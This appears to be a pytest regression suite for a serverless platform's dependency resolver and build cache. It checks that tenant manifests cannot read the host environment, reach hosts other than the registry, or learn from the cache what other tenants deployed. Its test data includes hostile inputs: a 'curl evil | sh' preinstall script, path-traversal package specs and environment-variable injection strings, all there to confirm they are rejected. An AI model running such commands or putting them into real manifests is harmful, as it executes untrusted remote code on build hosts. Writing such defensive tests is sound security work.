"""Regression tests for the security review's findings on dependency resolvers and the build cache (issue 15).

F1: a manifest cannot make pip (or npm) read the node's environment, and nothing of that environment is
quoted back to a tenant. F2: an npm manifest or lock file cannot make the node fetch from anywhere but
the configured registry. F10: a cache hit does not tell a tenant what another tenant deployed.

Real node, real pip and npm against the real registries; a loopback listener stands in for "anywhere
else" and counts every connection made to it.
"""

import http.server
import json
import os
import sys
import threading
import uuid

import pytest
from test_api import assert_problem
from test_auth import authed, client, empty_db, make_key  # noqa: F401  (fixtures)
from test_packages import zipped

from nimbus.compiler import layers, manifests
from nimbus.errors import InvalidRequest

pytestmark = pytest.mark.sandbox


def deploy(api, files: dict, runtime: str, name: str | None = None):
    name = name or f"sec-{uuid.uuid4().hex[:8]}"
    handler = "app.handler" if runtime == "python3" else "index.handler"
    resp = api.post("/api/v1/functions", json={"name": name, "runtime": runtime, "handler": handler,
                                               "code_base64": zipped(files)}, timeout=600)
    return name, resp


class Listener:
    """An HTTP server on loopback answering 404 to everything, counting the connections it gets."""

    def __init__(self) -> None:
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def setup(self):
                hits.append(self.client_address)
                super().setup()

            def do_GET(self):
                self.send_error(404)

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> "Listener":
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.server.shutdown()
        self.server.server_close()


# ---------------------------------------------------------------- F1: the node's environment


def test_f1_requirements_cannot_read_node_env(api, monkeypatch):
    secret = f"probe-{uuid.uuid4().hex}"
    monkeypatch.setenv("NIMBUS_SECRET_PROBE", secret)
    for requirements in ("six===${NIMBUS_SECRET_PROBE}\n", "six===$\\\n{NIMBUS_SECRET_PROBE}\n"):
        _, resp = deploy(api, {"app.py": "def handler(e, c):\n    return 1\n", "requirements.txt": requirements},
                         "python3")
        assert_problem(resp, 422, "${")
        assert secret not in resp.text


async def test_f1_resolvers_run_without_the_node_environment(tmp_path, monkeypatch):
    secret = f"probe-{uuid.uuid4().hex}"
    monkeypatch.setenv("NIMBUS_SECRET_PROBE", secret)
    monkeypatch.setenv("HTTPS_PROXY", "http://127.0.0.1:9")
    builder = layers.LayerBuilder(tmp_path, None)
    out = await builder._run([sys.executable, "-c", "import json, os; print(json.dumps(dict(os.environ)))"],
                             tmp_path, "env probe")
    env = json.loads(out)
    assert secret not in out and "NIMBUS_SECRET_PROBE" not in env and "HTTPS_PROXY" not in env
    assert env["HOME"] != os.environ.get("HOME") and env["PATH"]
    assert not os.path.exists(env["HOME"])  # private scratch, gone once the resolver ended


def test_f1_problem_details_never_show_the_node_environment(api, monkeypatch):
    secret = f"probe-{uuid.uuid4().hex[:20]}"
    monkeypatch.setenv("NIMBUS_SECRET_PROBE", secret)
    problem = assert_problem(api.get(f"/api/v1/functions/{secret}"), 404, "[redacted]")
    assert secret not in json.dumps(problem)


# ---------------------------------------------------------------- F2: npm reaches the registry only


def test_f2_dev_dependencies_cannot_make_npm_fetch_elsewhere(api):
    with Listener() as listener:
        package = {"dependencies": {"ms": "2.1.3"}, "devDependencies": {"x": f"http://{listener.url}/x.tgz"}}
        _, resp = deploy(api, {"index.js": "", "package.json": json.dumps(package)}, "nodejs")
        assert_problem(resp, 422, "devDependencies", "registry")
        assert listener.hits == []


def test_f2_a_lock_entry_resolved_outside_the_registry_is_refused(api):
    with Listener() as listener:
        lock = {"name": "x", "version": "1.0.0", "lockfileVersion": 3, "requires": True, "packages": {
            "": {"name": "x", "version": "1.0.0", "dependencies": {"ms": "2.1.3"}},
            "node_modules/ms": {"version": "2.1.3", "resolved": f"https://{listener.url}/ms/-/ms-2.1.3.tgz"}}}
        files = {"index.js": "", "package.json": json.dumps({"name": "x", "version": "1.0.0",
                                                               "dependencies": {"ms": "2.1.3"}}),
                 "package-lock.json": json.dumps(lock)}
        _, resp = deploy(api, files, "nodejs")
        assert_problem(resp, 422, "node_modules/ms", listener.url, "registry")
        assert listener.hits == []


@pytest.mark.parametrize(("package", "words"), [
    ({"dependencies": {"x": "gist:11081aaa281"}}, ["gist:11081aaa281", "registry"]),
    ({"dependencies": {"ms": "2.1.3"}, "workspaces": ["packages/*"]}, ["workspaces"]),
    ({"dependencies": {"ms": "2.1.3"}, "optionalDependencies": {"y": "bitbucket:u/r"}}, ["optionalDependencies"]),
    ({"dependencies": {"ms": "2.1.3"}, "peerDependencies": {"z": "x.tgz"}}, ["peerDependencies", "x.tgz"]),
    ({"dependencies": {"ms": "2.1.3"}, "bundleDependencies": ["../../etc"]}, ["bundleDependencies"]),
    ({"dependencies": {"ms": "2.1.3"}, "overrides": {"ms": "$nope nope"}}, ["overrides"]),
    ({"dependencies": {"Not a name!": "1.0.0"}}, ["Not a name!", "package name"]),
    ({"dependencies": {"ms": "npm:../evil@1"}}, ["npm:../evil@1"]),
])
def test_f2_npm_specs_must_name_registry_packages(package, words):
    with pytest.raises(InvalidRequest) as info:
        manifests.spec_of("nodejs", zipped_bytes({"index.js": "", "package.json": json.dumps(package)}))
    for word in words:
        assert word in str(info.value), str(info.value)


def test_f2_npm_sees_only_the_checked_fields_of_package_json():
    package = {"name": "app", "version": "1.0.0", "dependencies": {"ms": "^2.1.0", "lp": "npm:left-pad@1.3.0"},
               "devDependencies": {"is-number": "latest"}, "scripts": {"preinstall": "curl evil | sh"},
               "config": {"registry": "http://127.0.0.1:9/"}, "publishConfig": {"registry": "http://x/"}}
    spec = manifests.spec_of("nodejs", zipped_bytes({"index.js": "", "package.json": json.dumps(package)}))
    seen = json.loads(dict(spec.files)["package.json"])
    assert seen == {"name": "app", "version": "1.0.0", "dependencies": {"ms": "^2.1.0", "lp": "npm:left-pad@1.3.0"},
                    "devDependencies": {"is-number": "latest"}}


def zipped_bytes(files: dict) -> bytes:
    import base64

    return base64.b64decode(zipped(files))


# ---------------------------------------------------------------- F10: the build cache across tenants


def test_f10_a_layer_cache_hit_does_not_tell_another_tenant(authed):
    running, admin = authed
    package = zipped({"app.py": "import six\ndef handler(e, c):\n    return six.__version__\n",
                      "requirements.txt": "six==1.16.0\n"})
    with client(running, admin) as api:
        key_a, key_b = make_key(api, "tenant-a")["key"], make_key(api, "tenant-b")["key"]
    with client(running, key_a) as a, client(running, key_b) as b:
        answers = {}
        for who, tenant, name in (("a1", a, "deps-1"), ("b1", b, "deps-1"), ("b2", b, "deps-2"), ("a2", a, "deps-2")):
            resp = tenant.post("/api/v1/functions", json={"name": name, "runtime": "python3",
                                                          "handler": "app.handler", "code_base64": package},
                               timeout=600)
            assert resp.status_code == 201, resp.text
            answers[who] = resp.json()["layer"]
        assert len({answer["sha256"] for answer in answers.values()}) == 1  # one shared artifact
        assert answers["a1"]["cached"] is False
        assert answers["b1"]["cached"] is False  # b's first ask: another tenant's build is not confirmed
        assert answers["b2"]["cached"] is True and answers["a2"]["cached"] is True
        assert answers["b2"]["duration_ms"] == answers["b1"]["duration_ms"]  # b's own first request
        assert answers["a2"]["duration_ms"] == answers["a1"]["duration_ms"]
        # The layer list shows each tenant its own first request, not the build another tenant ran.
        [listed_b] = b.get("/api/v1/layers").json()["layers"]
        [listed_a] = a.get("/api/v1/layers").json()["layers"]
        assert listed_b["duration_ms"] == answers["b1"]["duration_ms"]
        assert listed_a["duration_ms"] == answers["a1"]["duration_ms"]
        assert listed_b["created_at"] > listed_a["created_at"]
        assert listed_b["functions"] == ["deps-1", "deps-2"] and listed_a["functions"] == ["deps-1", "deps-2"]

